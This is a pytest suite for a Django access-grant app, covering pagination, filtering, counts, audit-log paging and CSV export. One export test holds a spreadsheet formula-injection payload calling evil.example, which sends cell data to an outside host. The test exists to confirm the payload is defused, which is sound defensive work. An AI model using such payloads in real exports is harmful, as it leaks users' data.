"""The lists: cut at a row, filtered, sorted, counted so far and no further, and exported."""

import csv
import re
from collections.abc import Callable
from datetime import datetime, timedelta
from html import unescape
from io import StringIO
from typing import Any

import pytest
from django.core.exceptions import BadRequest
from django.test import Client
from django.urls import reverse
from pytest_django import DjangoAssertNumQueries

from accounts.models import Offer, User
from audit.clock import database_now
from audit.models import AuditEvent, append
from provisioning.core.states import Phase
from provisioning.models import Grant
from provisioning.reading import export, keyset, listing
from provisioning.reading.keyset import Order
from tests.conftest import ClientFor
from tests.factories import (
    AccessRequestFactory,
    DecisionFactory,
    GrantFactory,
    OfferFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

HOUR = timedelta(hours=1)


@pytest.fixture
def admin(dana: User, client_for: ClientFor) -> Client:
    return client_for(dana)


@pytest.fixture
def made(offer: Offer, alice: User, bob: User) -> Callable[..., Grant]:
    """An active grant of alice's, with what the test says otherwise."""

    def make(**said: Any) -> Grant:
        said.setdefault("request__offer", offer)
        said.setdefault("request__requester", alice)
        said.setdefault("phase", "active")
        if said["phase"] == "ended":
            said.setdefault("ended_at", database_now())
            said.setdefault("next_check_at", None)
        grant: Grant = GrantFactory.create(approver=bob, **said)
        return grant

    return make


def codes(page: Any) -> list[str]:
    return [row["url"].split("/")[2] for row in page.context["rows"]]


# --- Pages that are cut at a row -------------------------------------------------------------


def walk(order: Order, size: int, mark: str = "", to: str = keyset.AFTER) -> list[int]:
    """The keys of all pages from here on, one after the other."""
    found: list[int] = []
    while True:
        page = keyset.page(Grant.objects.all(), order, {to: mark}, size)
        keys = [one.pk for one in page.rows]
        found = [*found, *keys] if to == keyset.AFTER else [*keys, *found]
        mark = page.next if to == keyset.AFTER else page.previous
        if not mark:
            return found


@pytest.mark.parametrize("order", [*listing.LIVE_ORDERS.values(), Order(), Order(descending=True)])
def test_the_pages_together_are_the_list_there_and_back(
    made: Callable[..., Grant], order: Order
) -> None:
    start = database_now()
    for minutes in (3, 1, 1, 1, 2):
        began = start - timedelta(minutes=minutes)
        made(starts_at=began, ends_at=began + HOUR)
    whole = list(Grant.objects.order_by(*order.columns()).values_list("pk", flat=True))

    assert walk(order, 2) == whole
    last = order.mark(Grant.objects.get(pk=whole[-1]))
    assert walk(order, 2, last, keyset.BEFORE) == whole[:-1]


def test_a_row_that_comes_meanwhile_moves_no_other_page(made: Callable[..., Grant]) -> None:
    newest = Order("starts_at", descending=True)
    start = database_now()
    old = [made(starts_at=start - n * HOUR, ends_at=start + HOUR) for n in range(4)]
    first = keyset.page(Grant.objects.all(), newest, {}, 2)
    made(starts_at=start + HOUR, ends_at=start + 2 * HOUR)

    second = keyset.page(Grant.objects.all(), newest, {"after": first.next}, 2)
    back = keyset.page(Grant.objects.all(), newest, {"before": second.previous}, 2)

    assert [one.pk for one in second.rows] == [one.pk for one in old[2:]]
    assert [one.pk for one in back.rows] == [one.pk for one in old[:2]]
    assert back.previous, "The new row lies before."


@pytest.mark.parametrize(
    "address",
    [
        "?after=x",
        "?after=12",
        "?after=-12",
        "?after=20261127T193000.000000Z-",
        "?after=20261127T193000.000000Z-99999999999999999999",
        "?after=20261327T193000.000000Z-1",
        "?before=%00",
        "?after=20261127T193000.000000Z-1&before=20261127T193000.000000Z-1",
        "?sort=colour",
        "?sort=ended",
        "?show=ended&sort=starts",
        "?colour=red",
        "?page=2",
    ],
)
@pytest.mark.parametrize("path", ["/grants/", "/grants/export.csv"])
def test_an_address_that_means_nothing_is_a_bad_request(
    admin: Client, path: str, address: str
) -> None:
    assert admin.get(path + address).status_code == 400


@pytest.mark.parametrize(
    "path", ["/access/history/", "/approvals/", "/approvals/decided/", "/audit/"]
)
def test_other_lists_know_bad_addresses_too(admin: Client, path: str) -> None:
    assert admin.get(f"{path}?after=x").status_code == 400
    assert admin.get(f"{path}?colour=red").status_code == 400
    assert admin.get(f"{path}?after=1").status_code == 200


def test_a_mark_says_what_is_wrong_with_it() -> None:
    with pytest.raises(BadRequest, match=r"^An address names no row to go on from\.$"):
        Order().beyond("x")
    with pytest.raises(BadRequest, match=r"^An address names no moment to go on from\.$"):
        Order("ends_at").beyond("12")
    with pytest.raises(BadRequest, match=r"^An address asks for two pages at once\.$"):
        keyset.page(Grant.objects.all(), Order(), {"after": "1", "before": "2"}, 2)


def test_a_page_whose_rows_are_gone_leads_back(made: Callable[..., Grant], admin: Client) -> None:
    grant = made()
    mark = listing.LIVE_ORDERS["ends"].mark(grant)

    page = admin.get(f"/grants/?sort=ends&q=alice&after={mark}")

    assert codes(page) == []
    assert "Nothing is left on this page" in page.content.decode()
    assert 'href="?sort=ends&amp;q=alice"' in page.content.decode()


def test_the_links_lead_on_and_keep_the_filter(
    made: Callable[..., Grant], admin: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("provisioning.views.oversight.PAGE", 2)
    start = database_now()
    grants = [made(starts_at=start - n * HOUR, ends_at=start + HOUR) for n in range(3)]

    first = admin.get("/grants/?q=alice")
    second = admin.get(f"/grants/?q=alice&after={first.context['page'].next}")

    assert codes(first) == [one.code for one in grants[:2]]
    assert codes(second) == [grants[2].code]
    text = first.content.decode()
    assert f'href="?q=alice&amp;after={first.context["page"].next}"' in text
    assert 'rel="prev"' not in text
    assert 'rel="next"' not in second.content.decode()


# --- Active grants: filters, orders, counts --------------------------------------------------


def of_each_phase(made: Callable[..., Grant]) -> dict[str, Grant]:
    """A grant for everything that a list can be narrowed to."""
    now = database_now()
    past = {"starts_at": now - 2 * HOUR, "ends_at": now - HOUR}
    later = {"starts_at": now + HOUR, "ends_at": now + 2 * HOUR}
    return {
        "active": made(),
        "pending": made(phase="pending"),
        "begins": made(phase="scheduled", starts_at=now - HOUR, ends_at=now + HOUR),
        "unconfirmed": made(
            extending_from=now - HOUR, starts_at=now - 2 * HOUR, ends_at=now + HOUR
        ),
        "scheduled": made(phase="scheduled", **later),
        "cancelled": made(phase="scheduled", revoked_at=now, revoked_by="dana", **later),
        "revoked": made(revoked_at=now, revoked_by="dana"),
        "past": made(**past),
        "failing": made(phase="pending", attempts=3, last_error="AWS said no."),
        "ended": made(phase="ended", **past),
    }


SHOWN = {
    "": {"active", "pending", "begins", "unconfirmed", "scheduled", "cancelled", "revoked", "past"}
    | {"failing"},
    "active": {"active"},
    "pending": {"pending", "begins", "unconfirmed", "failing"},
    "attention": {"failing"},
    "scheduled": {"scheduled"},
    "ending": {"cancelled", "revoked", "past"},
    "ended": {"ended"},
}


def test_a_list_of_one_phase_holds_what_is_shown_in_it(
    made: Callable[..., Grant], admin: Client
) -> None:
    grants = of_each_phase(made)
    for show, names in SHOWN.items():
        page = admin.get(f"/grants/?show={show}")

        assert sorted(codes(page)) == sorted(grants[one].code for one in names), show
        if show in {one.value for one in Phase}:
            assert {row["phase"] for row in page.context["rows"]} == {show}


def test_the_counts_say_the_same_as_the_lists(made: Callable[..., Grant], admin: Client) -> None:
    of_each_phase(made)

    counts = admin.get("/grants/").context["counts"]

    assert {one.show: one.number for one in counts} == {
        show: len(SHOWN[show]) for show in listing.LABELS
    }


def test_no_count_goes_on_after_a_bound(
    made: Callable[..., Grant], admin: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(listing, "MANY", 2)
    for _ in range(4):
        made(revoked_at=database_now(), revoked_by="dana")

    counts = {one.show: one for one in admin.get("/grants/").context["counts"]}

    assert counts[""].number == 3, "It stopped at one more than it says."
    assert counts[""].words == "2+"
    assert counts["ending"].words == "2+"
    assert counts["scheduled"].words == "0"


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("person=alice", 1),
        ("person=ALICE", 1),
        ("person=bob", 0),
        ("account=111111111111", 1),
        ("account=222222222222", 1),
        ("account=workload", 1),
        ("profile={profile}", 1),
        ("pair={pair}", 1),
        ("person=alice&account=222222222222&profile={profile}&pair={pair}&show=active", 1),
        ("q=ALI", 1),
        ("q=SecurityRead", 1),
        ("q={code}", 1),
        ("q=workl", 1),
        ("q=%25", 0),
    ],
)
def test_a_list_is_narrowed_by_each_of_its_filters(
    made: Callable[..., Grant], offer: Offer, admin: Client, query: str, found: int
) -> None:
    grant = made()
    other = UserFactory.create(username="zoe")
    made(
        request__requester=other,
        request__offer=OfferFactory.create(profile__version__role_name="Z"),
    )
    query = query.format(code=grant.code, profile=offer.profile.name, pair=offer.pair.pk)

    assert codes(admin.get(f"/grants/?{query}")) == [grant.code] * found


def test_a_text_that_names_very_many_is_asked_for_as_it_is(
    made: Callable[..., Grant], admin: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(listing, "BROAD", 0)
    grant = made()

    assert codes(admin.get("/grants/?q=alice")) == [grant.code]


@pytest.mark.parametrize(
    ("query", "words"),
    [
        ("person=nobody", "Nobody has this user name."),
        ("account=999999999999", "No account has this number or name."),
        ("profile=none", "No profile has this name."),
        ("pair=99999999", "There is no such pair."),
        ("pair=x", "There is no such pair."),
        ("person=%00", "Null characters are not allowed."),
        (
            "show=everything",
            "Select a valid choice. everything is not one of the available choices.",
        ),
    ],
)
@pytest.mark.parametrize("path", ["/grants/", "/grants/export.csv"])
def test_a_value_that_names_nothing_is_an_error_at_its_field(
    made: Callable[..., Grant], admin: Client, path: str, query: str, words: str
) -> None:
    made()
    page = admin.get(f"{path}?{query}")

    assert page.status_code == 422
    assert words in page.content.decode()
    assert page.context["rows"] == []


def test_a_column_says_how_it_is_sorted_and_its_link_turns_it_round(
    made: Callable[..., Grant], admin: Client
) -> None:
    start = database_now()
    late = made(starts_at=start - 2 * HOUR, ends_at=start + 3 * HOUR)
    soon = made(starts_at=start - 3 * HOUR, ends_at=start + HOUR)

    usual, by_end = admin.get("/grants/"), admin.get("/grants/?sort=ends")

    assert codes(usual) == [late.code, soon.code]
    assert codes(by_end) == [soon.code, late.code]
    assert 'aria-sort="descending"' in usual.content.decode()
    assert usual.content.decode().count("aria-sort") == 1
    assert 'href="?sort=starts"' in usual.content.decode()
    assert 'href="?sort=ends"' in usual.content.decode()
    assert 'aria-sort="ascending"' in by_end.content.decode()
    assert 'href="?sort=-ends"' in by_end.content.decode()


def test_the_addresses_of_a_line_are_those_of_its_pages(
    made: Callable[..., Grant], admin: Client
) -> None:
    grant = made(settled_at=database_now(), phase="pending")

    text = admin.get("/grants/").content.decode()

    for name in ("request", "revoke", "repair"):
        assert f'href="{reverse(f"provisioning:{name}", args=[grant.code])}"' in text


# --- Export ----------------------------------------------------------------------------------


def rows_of(answer: Any) -> list[dict[str, str]]:
    text = "".join(part.decode() for part in answer.streaming_content)
    return list(csv.DictReader(StringIO(text)))


def test_the_export_is_the_list_as_it_is_filtered_and_sorted(
    made: Callable[..., Grant], admin: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "CHUNK", 2)
    start = database_now()
    grants = [made(starts_at=start - n * HOUR, ends_at=start + (5 - n) * HOUR) for n in range(3)]
    made(request__requester=UserFactory.create(username="zoe"))

    answer = admin.get("/grants/export.csv?person=alice&sort=ends")

    assert answer.streaming
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="grants-')
    rows = rows_of(answer)
    assert [row["Code"] for row in rows] == [one.code for one in reversed(grants)]
    first = rows[-1]
    assert first["Person"] == "Alice Ashby"
    assert first["User name"] == "alice"
    assert (first["Source account"], first["Target account"]) == ("111111111111", "222222222222")
    assert first["Role"] == grants[0].role_name
    assert first["Starts (UTC)"] == f"{start:%Y-%m-%d %H:%M:%S}"
    assert first["Phase"] == "active"


def test_no_cell_of_an_export_is_a_formula(made: Callable[..., Grant], admin: Client) -> None:
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Look")'
    made(attempts=3, last_error=attack)

    (row,) = rows_of(admin.get("/grants/export.csv"))

    assert row["Last error"] == f"'{attack}"
    assert row["Needs attention"] == "yes"


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＠x"],  # noqa: RUF001
)
def test_what_begins_like_a_formula_is_defused(text: str) -> None:
    assert export.defused(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "alice", "a=b", "111111111111", "2026-11-27 20:00:00"])
def test_other_words_stay_as_they_are(text: str) -> None:
    assert export.defused(text) == text


def test_an_empty_export_has_its_head(admin: Client) -> None:
    answer: Any = admin.get("/grants/export.csv")
    assert b"".join(answer.streaming_content).decode().startswith("Code,Person,User name,")


# --- History and audit -----------------------------------------------------------------------


def test_what_is_over_is_on_its_own_page_and_only_ones_own(
    made: Callable[..., Grant], offer: Offer, alice: User, client_for: ClientFor
) -> None:
    ended = made(phase="ended")
    made()
    rejected = AccessRequestFactory.create(offer=offer, requester=alice, state="rejected")
    made(phase="ended", request__requester=UserFactory.create())

    page = client_for(alice).get("/access/history/")

    assert [one.code for one in page.context["page"].rows] == [rejected.code, ended.code]


def test_all_decided_requests_can_be_narrowed(
    made: Callable[..., Grant], offer: Offer, alice: User, bob: User, client_for: ClientFor
) -> None:
    granted = made()
    rejected = AccessRequestFactory.create(offer=offer, requester=alice, state="rejected")
    DecisionFactory.create(request=rejected, approver=bob, verdict="rejected")
    AccessRequestFactory.create(offer=offer, requester=alice)
    AccessRequestFactory.create(requester=alice, state="rejected")
    client = client_for(bob)

    def found(query: str) -> list[str]:
        page = client.get(f"/approvals/decided/{query}")
        assert page.status_code == 200
        return [one.code for one in page.context["page"].rows]

    assert found("") == [rejected.code, granted.code]
    assert found("?outcome=approved") == [granted.code]
    assert found("?outcome=rejected&q=alice") == [rejected.code]
    assert found("?q=nobody") == []
    assert client.get("/approvals/decided/?outcome=pending").status_code == 422


def test_the_audit_log_is_narrowed_by_whole_values(admin: Client) -> None:
    for actor, kind in (("alice", "grant:one"), ("bob", "grant:one"), ("alice", "grant:two")):
        append(kind=kind, actor=actor, subject="grant:abc", sentence="It was so.")

    def found(query: str) -> int:
        return len(admin.get(f"/audit/{query}").context["page"].rows)

    assert found("?actor=alice") == 2
    assert found("?actor=ali") == 0
    assert found("?actor=alice&kind=grant:one&subject=grant:abc") == 1
    assert admin.get(f"/audit/?actor={'x' * 200}").status_code == 422


@pytest.fixture
def events_of_three_days(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The sentences of events at the edges of days, oldest first."""
    moments = [
        "2026-03-27T23:59:59.999999",
        "2026-03-28T00:00:00",
        "2026-03-28T12:00:00",
        "2026-03-28T23:59:59.999999",
        "2026-03-29T00:00:00",
    ]
    monkeypatch.setattr("provisioning.views.oversight.PAGE", 2)
    for moment in moments:
        AuditEvent.objects.create(
            at=datetime.fromisoformat(f"{moment}+00:00"),
            kind="grant:one",
            actor="alice",
            subject="grant:abc",
            sentence=moment,
        )
    return moments


@pytest.mark.parametrize(
    ("query", "first", "last"),
    [
        ("since=2026-03-28&until=2026-03-28", 1, 3),
        ("since=2026-03-28", 1, 4),
        ("until=2026-03-28", 0, 3),
        ("since=0001-01-01&until=9999-12-31&actor=alice", 0, 4),
        ("since=2026-03-30", 0, -1),
    ],
)
def test_the_audit_log_of_some_days_is_read_to_its_end_by_its_links(
    query: str, first: int, last: int, events_of_three_days: list[str], admin: Client
) -> None:
    found, address = [], f"/audit/?{query}&kind=grant:one"
    while address:
        answer = admin.get(address)
        assert answer.status_code == 200
        found += [one.sentence for one in answer.context["page"].rows]
        links = re.findall(r'rel="next"\s+href="([^"]+)"', answer.content.decode())
        address = f"/audit/{unescape(links[0])}" if links else ""
        assert not address or query in address

    assert found == events_of_three_days[first : last + 1][::-1]


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ("since=2026-02-30", "since", "Enter a valid date."),
        ("since=03/28/2026", "since", "Enter a valid date."),
        ("until=yesterday", "until", "Enter a valid date."),
        (
            "since=2026-03-29&until=2026-03-28",
            "until",
            "The last day is before the first one.",
        ),
    ],
)
def test_days_that_are_none_or_the_wrong_way_round_are_told_at_their_field(
    query: str, field: str, message: str, admin: Client
) -> None:
    answer = admin.get(f"/audit/?{query}")

    assert answer.status_code == 422
    assert answer.context["form"].errors == {field: [message]}
    assert message in answer.content.decode()
    assert "Nothing has happened" not in answer.content.decode()


def test_a_page_of_some_days_goes_on_from_a_moment(admin: Client) -> None:
    assert admin.get("/audit/?since=2026-03-28&after=1").status_code == 400
    mark = "20260328T120000.000000Z-1"
    assert admin.get(f"/audit/?since=2026-03-28&after={mark}").status_code == 200


# --- What a page costs -----------------------------------------------------------------------

QUERIES = {
    # page: who asks, queries
    "/access/": ("alice", 25),
    "/access/history/": ("alice", 8),
    "/approvals/": ("bob", 30),
    "/approvals/decided/": ("bob", 15),
    "/grants/": ("dana", 10),
    "/grants/?sort=ends": ("dana", 10),
    "/grants/?show=ended": ("dana", 10),
    "/grants/?q=person": ("dana", 12),
    "/grants/?person=alice": ("dana", 11),
    "/grants/?account=222222222222": ("dana", 12),
    "/audit/": ("dana", 4),
    "/audit/?since=2026-01-01&until=2099-01-01&kind=grant:phase:active": ("dana", 4),
}
"""Fixed, and the same for one row and for sixty."""


def test_a_page_takes_as_many_queries_with_sixty_rows_as_with_one(
    made: Callable[..., Grant],
    offer: Offer,
    alice: User,
    bob: User,
    dana: User,
    client_for: ClientFor,
    django_assert_max_num_queries: DjangoAssertNumQueries,
) -> None:
    clients = {one.username: client_for(one) for one in (alice, bob, dana)}

    def more(count: int) -> None:
        for _ in range(count):
            other = OfferFactory.create(pair=offer.pair, approver_users=[bob])
            person = UserFactory.create()
            for requester in (alice, person):
                made(request__offer=other, request__requester=requester)
                made(request__offer=other, request__requester=requester, phase="ended")
            AccessRequestFactory.create(offer=other, requester=alice)

    def queries(path: str, who: str) -> int:
        with django_assert_max_num_queries(200) as captured:
            assert clients[who].get(path).status_code == 200
        return len(captured)

    def taken() -> dict[str, tuple[str, int]]:
        return {path: (who, queries(path, who)) for path, (who, _) in QUERIES.items()}

    more(1)
    taken()
    assert taken() == QUERIES
    more(60)
    assert taken() == QUERIES
